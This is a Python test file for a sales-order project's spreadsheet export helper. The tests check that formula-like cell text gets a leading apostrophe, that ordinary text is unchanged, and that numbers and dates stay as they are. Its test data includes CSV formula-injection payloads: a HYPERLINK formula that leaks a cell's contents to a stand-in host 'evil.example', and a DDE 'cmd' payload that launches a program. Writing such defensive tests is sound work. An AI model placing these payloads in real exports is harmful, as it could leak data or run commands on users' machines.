"""Report cells a spreadsheet would run as formulas are neutralised; numbers stay numbers."""

from datetime import date
from decimal import Decimal as D

import pytest

from xero_sales_orders.core.spreadsheet import neutralise, neutralise_rows


@pytest.mark.parametrize(
	"text",
	[
		'=HYPERLINK("https://evil.example/?"&A1,"Invoice")',
		"+1+cmd|' /C calc'!A0",
		"-2+3",
		"@SUM(A1:A9)",
		"\t=1+1",
		"\r=1+1",
		"\n=1+1",
		"=",
	],
)
def test_formula_like_text_gets_a_leading_apostrophe(text):
	assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
	"value", ["Ridgeway University", "PO-4471", "", " =not at the start", "O'Brien & Co", "1+1=2"]
)
def test_ordinary_text_is_unchanged(value):
	assert neutralise(value) == value


@pytest.mark.parametrize("value", [-5, -2.5, D("-10.00"), 0, None, date(2026, 1, 1), True])
def test_numbers_dates_and_empty_values_stay_what_they_are(value):
	assert neutralise(value) is value


def test_rows_of_dicts_and_lists_are_neutralised_in_place():
	rows = [
		{"customer_name": "=HYPERLINK(1)", "outstanding": D("-3.50"), "po_number": "PO-1"},
		["@x", -1, "fine"],
	]
	assert neutralise_rows(rows) is rows
	assert rows[0] == {"customer_name": "'=HYPERLINK(1)", "outstanding": D("-3.50"), "po_number": "PO-1"}
	assert rows[1] == ["'@x", -1, "fine"]
